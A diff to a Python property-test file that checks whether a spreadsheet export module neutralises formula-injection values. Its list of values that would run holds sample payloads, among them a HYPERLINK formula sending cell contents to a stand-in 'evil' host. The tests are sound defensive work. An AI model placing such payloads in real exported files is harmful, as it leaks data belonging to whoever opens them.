@@ -15,8 +15,18 @@ from local.analyst.output import Answer, as_cells, write
 from local.move_in.rows import RefusedFile, RefusedRow, columns_of, read_rows
 from processors.person_exports import Table
 
-RUNNING = ['=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
-QUIET = ["", "ann", "'=1", "'", "a=1", " -", "x@y.example"]
+RUNNING = [
+    '=HYPERLINK("http://evil?"&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "＝1",
+    "'=1",
+]
+QUIET = ["", "ann", "'", "a=1", " -", "x@y.example"]
 
 
 def is_quiet(written: str) -> bool:
@@ -38,12 +48,11 @@ def test_all_else_stays_as_it_is(value: Any) -> None:
     assert cell(value) is value
 
 
-@given(st.text(max_size=8) | st.sampled_from(RUNNING))
+@given(st.text(max_size=8) | st.text("'=+a", max_size=4) | st.sampled_from(RUNNING))
 def test_what_is_written_is_quiet_and_can_be_read_back(text: str) -> None:
     written = str(cell(text))
     assert written[:1] not in tuple(RUNS)
-    if text[:1] != "'":
-        assert text_of(written) == text
+    assert text_of(written) == text
 
 
 def test_an_export_holds_no_cell_that_runs() -> None:
